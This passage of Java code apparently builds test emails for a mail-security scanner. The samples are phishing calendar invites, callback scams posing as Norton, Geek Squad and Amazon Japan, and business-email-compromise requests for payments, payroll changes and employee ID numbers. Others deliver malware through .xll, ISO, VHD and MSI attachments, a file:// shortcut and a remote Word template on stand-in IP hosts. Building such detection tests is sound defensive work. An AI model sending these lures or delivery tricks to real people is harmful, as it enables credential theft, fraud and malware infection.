                .text("お世話になっております。請求書を圧縮ファイルにてお送りします。\nパスワード：Tw8841\nご確認をお願いします。", "UTF-8", "base64")
                .attach("seikyu.7z", "application/x-7z-compressed", sevenZipEncrypted(80)).build());
        m.put("phish-calendar-invite", Eml.of("Microsoft Outlook <calendar@outlook-notify-center.com>", TO)
                .subject("Invitation: Mailbox re-validation @ Today 15:00").text("You have been invited to a meeting.")
                .calendar("BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:reval-8831@outlook-notify-center.com\n"
                        + "DTSTART:20240611T060000Z\nDTEND:20240611T063000Z\nSUMMARY:Mailbox re-validation\n"
                        + "DESCRIPTION:Action required: your mailbox will be disabled today. Verify your account at https://outlook-verify-m\n"
                        + " ailbox.com/login to keep access.\nORGANIZER:mailto:calendar@outlook-notify-center.com\nEND:VEVENT\nEND:VCALENDAR").build());
        m.put("phish-ics-attachment", Eml.of("Zoom Meetings <meetings@zoom-event-confirm.top>", TO).subject("Confirm your attendance")
                .text("See the meeting details in the attached invitation.")
                .attach("invite.ics", "text/calendar", ("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Quarterly all-hands\r\n"
                        + "DESCRIPTION:Sign in to confirm your attendance: https://zoom-event-confirm.top/auth?u=sarah\\nYour account "
                        + "will be suspended if you do not confirm.\r\nDTSTART:20240612T010000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").getBytes()).build());
        m.put("phish-callback-norton", Eml.of("Norton LifeLock <billing.norton.support@gmail.com>", TO).subject("Order confirmation #NL-88213")
                .text("Dear customer,\n\nYour Norton 360 subscription has been renewed and your card has been charged $399.99.\n"
                        + "If you did not authorize this charge, call our billing department at +1 (808) 555-0147 within 24 hours to cancel "
                        + "and receive a refund.\n\nNorton Billing Team").build());
        m.put("phish-callback-geek", Eml.of("Geek Squad Billing <geeksquad.billing.dept@outlook.com>", TO).subject("Invoice GS-20931")
                .html("<p>Thank you for renewing your Geek Squad Total Protection plan. Amount: $289.00.</p>"
                        + "<p>If you wish to cancel this renewal, contact our support line on 1-888-555-0199 immediately.</p>").build());
        m.put("phish-callback-jp", Eml.of(Eml.addr("Amazon カスタマーサービス", "amazon.prime.support.jp@gmail.com", "UTF-8"), TO_JP)
                .subject("Amazonプライム年会費のお支払い完了", "UTF-8")
                .text("Amazonプライムの年会費 5,900円のお支払いが完了しました。\n身に覚えのない場合は、24時間以内にカスタマーセンター"
                        + "（電話番号：050-5555-0147）までお電話ください。", "UTF-8", "base64").build());
        m.put("mal-xll-addin", Eml.of("Finance <finance@quarterly-figures-report.com>", TO).subject("Q2 figures")
                .text("Q2 figures attached, open in Excel.").attach("Q2_figures.xll", "application/vnd.ms-excel", pe()).build());
        m.put("mal-iso-in-zip", Eml.of("Logistics <logistics@container-track-desk.com>", TO).subject("Container release")
                .text("Release note attached.").attach("release.zip", "application/zip", zip("Release_Note.iso", iso("RELEASE"))).build());
        m.put("mal-vhd-attachment", Eml.of("Scanner <scanner@office-scan-relay.com>", TO).subject("Scanned files")
                .text("Scanned files attached.").attach("scans.vhd", "application/octet-stream", vhd()).build());
        m.put("mal-url-shortcut", Eml.of("Documents <docs@shared-files-notice.com>", TO).subject("Shared folder")
                .text("Open the shortcut to the shared folder.").attach("Project_Files.url", "application/internet-shortcut",
                        "[InternetShortcut]\r\nURL=file://203.0.113.7/share/Project_Files.exe\r\nIconIndex=3\r\n".getBytes()).build());
        m.put("mal-msi-in-zip", Eml.of("IT Updates <updates@software-deploy-center.com>", TO).subject("Teams update")
                .text("Install the attached update.").attach("TeamsUpdate.zip", "application/zip", zip("TeamsSetup.msi", docPlain())).build());
        m.put("office-remote-template-unc", Eml.of("Events <events@industry-summit-forum.org>", TO).subject("Agenda")
                .text("Agenda attached.").attach("Agenda.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        docxRemoteTemplate("\\\\203.0.113.8\\share\\agenda.dotm")).build());
        m.put("bec-partner-name-unrelated-domain", Eml.of("Contoso Supplies Accounts <accounts@csl-remittance-office.com>", TO)
                .subject("Invoice INV-21004 payment")
                .text("Dear Sarah,\n\nplease note that our bank account has changed. Kindly send the payment for invoice INV-21004 "
                        + "to our new account below and confirm the transfer today.\n\nIBAN: GB71 MIDL 4005 1522 3345 01\n\nAccounts").build());
        m.put("bec-jp-payroll-freemail", Eml.of(Eml.addr("山田 太郎", "taro.yamada.nw@gmail.com", "UTF-8"), TO_JP)
                .subject("給与振込口座について", "UTF-8")
                .text("佐藤さん\n\n給与の振込口座を変更しましたので、次回の給与から新しい口座に振り込んでください。\n"
                        + "銀行：みどり銀行 普通 2233445\n\n山田", "UTF-8", "base64").build());
        m.put("bec-jp-mynumber-request", Eml.of(Eml.addr("山田 太郎", "yamada.president@outlook.jp", "UTF-8"), TO_JP)
                .subject("至急", "UTF-8")
                .text("佐藤さん\n\n社員のマイナンバー一覧を本日中にこのアドレスへ送ってください。内密にお願いします。\n\n山田", "UTF-8", "base64").build());
        m.put("phish-google-forms", Eml.of("Payroll Team <payroll@staff-benefits-update.com>", TO).subject("Confirm your payroll details")
                .html("<p>Due to a system migration, all employees must verify their account information by Friday.</p>"
                        + "<p><a href=\"https://docs.google.com/forms/d/e/1FAIpQLSf/viewform\">Verify now</a></p>").build());
    }
}
